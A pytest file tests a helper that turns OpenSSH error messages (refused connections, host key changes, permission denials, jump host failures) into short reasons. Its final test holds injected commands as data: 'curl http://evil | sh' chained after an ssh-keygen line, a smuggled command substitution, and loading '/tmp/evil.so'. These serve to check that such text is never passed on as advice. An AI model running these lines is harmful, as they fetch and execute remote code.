"""ssh's words in one sentence; the outputs are those of OpenSSH 9.2."""

import pytest

from torc_remote.ssh.errors import explain

SENT = (
    'Task failed: Data could not be sent to remote host "h1". Make sure this host can be reached over ssh: '
)
BEHIND = "kex_exchange_identification: Connection closed by remote host\r\nConnection closed by UNKNOWN port 65535\r\n"
CHANGED = """\
@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@@
IT IS POSSIBLE THAT SOMEONE IS DOING SOMETHING NASTY!
Add correct host key in /home/u/.ssh/known_hosts to get rid of this message.
Offending ED25519 key in /home/u/.ssh/known_hosts:7
{remove}Host key for h1 has changed and you have requested strict checking.
Host key verification failed.
"""
REMOVE = '  remove with:\n  ssh-keygen -f "/home/u/.ssh/known_hosts" -R "h1"\n'
NOTHING_SENT = " (ssh's configuration on this machine; nothing was sent)"
UNKNOWN_KEY = "its host key is not known here; log in once with ssh to compare and accept it"
ANEW = "the host key has changed: the machine was set up anew, or another one answers in its place. "


@pytest.mark.parametrize(
    ("said", "reason"),
    [
        (
            "ssh: connect to host h1 port 22: Connection refused",
            "connect to host h1 port 22: Connection refused",
        ),
        (
            "ssh: connect to host ::1 port 22: No route to host",
            "connect to host ::1 port 22: No route to host",
        ),
        (
            "ssh: Could not resolve hostname h1: Temporary failure in name resolution",
            "Could not resolve hostname h1: Temporary failure in name resolution",
        ),
        (
            "kex_exchange_identification: read: Connection reset by peer\r\nConnection reset by 10.0.0.1 port 22\r\n",
            "Connection reset by 10.0.0.1 port 22 before the login. "
            "Its sshd is busy (MaxStartups) or does not serve this address, or it is no sshd",
        ),
        (
            "ssh: connect to host bastion port 22: Connection refused\n" + BEHIND,
            "the jump host failed: connect to host bastion port 22: Connection refused",
        ),
        (
            "channel 0: open failed: connect failed: Connection refused\nstdio forwarding failed\n" + BEHIND,
            "the jump host can't reach it: Connection refused",
        ),
        (BEHIND, "the jump host hung up"),
    ],
)
def test_what_may_be_over_in_a_second(said: str, reason: str) -> None:
    failure = explain(SENT + said)
    assert (failure.reason, failure.never_ran, failure.transient) == (reason, True, True)


@pytest.mark.parametrize(
    ("said", "reason"),
    [
        ("u@h1: Permission denied (publickey).", "Permission denied (publickey)"),
        (
            "Authorized\nu@h1: Permission denied (publickey,password).",
            "Permission denied (publickey,password)",
        ),
        (
            "ssh: Could not resolve hostname h1: Name or service not known",
            "Could not resolve hostname h1: Name or service not known",
        ),
        (
            "ssh: connect to host h1 port 22: Connection timed out",
            "connect to host h1 port 22: Connection timed out",
        ),
        (
            "Connection timed out during banner exchange\nConnection to 10.0.0.1 port 22 timed out",
            "connected, but no ssh server answered (timed out)",
        ),
        (
            "No ED25519 host key is known for h1 and you want strict checking.\nHost key verification failed.",
            "No ED25519 host key is known for h1 and you want strict checking",
        ),
        (
            "Received disconnect from 10.0.0.1 port 22:2: Too many authentication failures\n"
            "Disconnected from 10.0.0.1 port 22",
            "Too many authentication failures (ssh offers more keys than the host allows; "
            "set IdentityFile and IdentitiesOnly yes for it in ~/.ssh/config)",
        ),
        ("Host key verification failed.\n" + BEHIND, f"the jump host failed: {UNKNOWN_KEY}"),
        (
            "u@bastion: Permission denied (publickey).\n" + BEHIND,
            "the jump host failed: Permission denied (publickey)",
        ),
        (
            CHANGED.format(remove=REMOVE),
            ANEW + 'If you expected that: ssh-keygen -f "/home/u/.ssh/known_hosts" -R "h1"',
        ),
        (
            CHANGED.format(remove=""),
            ANEW + "If you expected that: remove the entry /home/u/.ssh/known_hosts:7",
        ),
        (
            'Load key "/home/u/.ssh/id": bad permissions\r\nu@h1: Permission denied (publickey).\r\n',
            'Permission denied (publickey): Load key "/home/u/.ssh/id": bad permissions '
            "(others may read it; chmod 600)",
        ),
        (
            "no such identity: /home/u/.ssh/x: No such file or directory\nu@h1: Permission denied (publickey).",
            "Permission denied (publickey): no such identity: /home/u/.ssh/x: No such file or directory",
        ),
        (
            "subsystem request failed on channel 0\r\nConnection closed\r\n",
            "it offers no sftp (subsystem request failed); its sshd_config needs a line Subsystem sftp",
        ),
        (
            "Your account has expired; please contact your system administrator.\n"
            "Connection closed by 10.0.0.1 port 22",
            "Your account has expired; please contact your system administrator",
        ),
        ("No user exists for uid 4711", "No user exists for uid 4711"),
        ("Host key verification failed.", UNKNOWN_KEY),
        (
            "Host key ED25519 SHA256:Ylq revoked by file /etc/revoked\nHost key verification failed.",
            "Host key ED25519 SHA256:Ylq revoked by file /etc/revoked",
        ),
        (
            "/c: line 1: Bad configuration option: bogus\n/c: line 2: Bad configuration option: more\n"
            "/c: terminating, 2 bad configuration options",
            f"/c: line 1: Bad configuration option: bogus{NOTHING_SENT}",
        ),
        ("/c d line 2: Bad port 'abc'.", f"/c d line 2: Bad port 'abc'{NOTHING_SENT}"),
        (
            '/c line 2: no argument after keyword "host"',
            f'/c line 2: no argument after keyword "host"{NOTHING_SENT}',
        ),
        ("Bad owner or permissions on /c", f"Bad owner or permissions on /c{NOTHING_SENT}"),
        (
            "u@h1: Permission denied (keyboard-interactive).",
            "Permission denied (keyboard-interactive): a key alone does not open this account",
        ),
        (
            "mux_client_request_session: session request failed: Session open refused by peer\n"
            "Failed to connect to new control master",
            "it opens no session for this account (Session open refused by peer); see MaxSessions in its sshd_config",
        ),
        (
            "muxclient: master hello exchange failed\nFailed to connect to new control master",
            "it ended the connection right after the login",
        ),
        (
            "gateway: your ticket has expired\nbanner exchange: Connection to UNKNOWN port 65535: Broken pipe",
            "the jump host failed: gateway: your ticket has expired",
        ),
        (
            "Protocol major versions differ: 2 vs. 1\n"
            "banner exchange: Connection to 10.0.0.1 port 22: could not read protocol version",
            "banner exchange: Connection to 10.0.0.1 port 22: could not read protocol version",
        ),
    ],
)
def test_what_stays_as_it_is(said: str, reason: str) -> None:
    failure = explain(SENT + said)
    assert (failure.reason, failure.never_ran, failure.transient) == (reason, True, False)


@pytest.mark.parametrize(
    ("said", "reason"),
    [
        ("", "the connection was lost"),
        (
            "Connection to 10.0.0.1 closed by remote host.\r\n",
            "the connection was lost (Connection to 10.0.0.1 closed by remote host)",
        ),
        (
            "Timeout, server 10.0.0.1 not responding.",
            "the connection was lost (Timeout, server 10.0.0.1 not responding)",
        ),
        (
            # a login file that fails to open a tunnel, then the link is cut
            "ssh: connect to host gateway port 22: Connection refused\nConnection to 10.0.0.1 closed by remote host.",
            "the connection was lost (Connection to 10.0.0.1 closed by remote host)",
        ),
        (
            "Connection reset by 10.0.0.1 port 22",
            "the connection was lost (Connection reset by 10.0.0.1 port 22)",
        ),
        (
            # the text of /etc/nologin
            "Back at noon\nConnection closed by 10.0.0.1 port 22",
            "the connection was lost (Back at noon / Connection closed by 10.0.0.1 port 22)",
        ),
        ("/etc/profile: line 3: x: command not found", "/etc/profile: line 3: x: command not found"),
        ("something new", "something new"),
    ],
)
def test_what_may_have_happened_after_the_script_was_sent(said: str, reason: str) -> None:
    failure = explain(SENT + said)
    assert (failure.reason, failure.never_ran, failure.transient) == (reason, False, False)


@pytest.mark.parametrize(
    "before", ["", "Failed to connect to the host via sftp: ", SENT.removeprefix("Task failed: ")]
)
def test_ansibles_words_are_left_out(before: str) -> None:
    assert explain(before + "u@h1: Permission denied (publickey).").reason == "Permission denied (publickey)"


@pytest.mark.parametrize(
    "line",
    [
        'ssh-keygen -f "/home/u/.ssh/known_hosts" -R "h1"; curl http://evil | sh',
        'ssh-keygen -f "$(curl http://evil)" -R "h1"',
        "ssh-keygen -D /tmp/evil.so",
    ],
)
def test_a_host_that_speaks_like_ssh_gives_nobody_a_command(line: str) -> None:
    """Only what ssh itself advises is passed on as advice."""
    said = f"@  WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\n{line}\n"
    assert explain(said).reason.endswith("remove the old entry of known_hosts")
